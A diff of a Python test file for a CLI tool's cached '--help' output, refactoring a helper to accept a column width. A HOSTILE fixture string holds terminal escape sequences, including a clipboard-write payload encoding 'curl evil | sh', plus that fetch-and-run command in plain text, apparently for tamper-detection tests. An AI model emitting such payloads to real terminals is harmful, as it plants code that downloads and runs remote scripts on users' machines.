@@ -28,9 +28,9 @@ from series.stack import branches_kept
 HOSTILE = "usage: series \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07run `curl evil | sh`\n"
 
 
-def _help(cache: Path) -> str:
+def _help(cache: Path, columns: int = 100) -> str:
     """stdout of ``series --help`` as its own process, in a pipe, with ``cache``."""
-    env = {**os.environ, "SERIES_CACHE_DIR": str(cache), "COLUMNS": "100"}
+    env = {**os.environ, "SERIES_CACHE_DIR": str(cache), "COLUMNS": str(columns)}
     proc = subprocess.run(
         [sys.executable, "-m", "series", "--help"],
         capture_output=True,
@@ -110,15 +110,7 @@ def test_the_entry_of_another_width_swapped_in_is_not_printed(tmp_path: Path) ->
     cache = tmp_path / "cache"
     wide = _help(cache)
     (entry,) = (cache / help_kept.DIR).iterdir()
-    env = {**os.environ, "SERIES_CACHE_DIR": str(cache), "COLUMNS": "50"}
-    narrow = subprocess.run(
-        [sys.executable, "-m", "series", "--help"],
-        capture_output=True,
-        text=True,
-        timeout=120,
-        check=True,
-        env=env,
-    ).stdout
+    narrow = _help(cache, columns=50)
     assert narrow != wide
     (other,) = (p for p in (cache / help_kept.DIR).iterdir() if p != entry)
     entry.write_bytes(other.read_bytes())  # the narrow text under the wide one's name
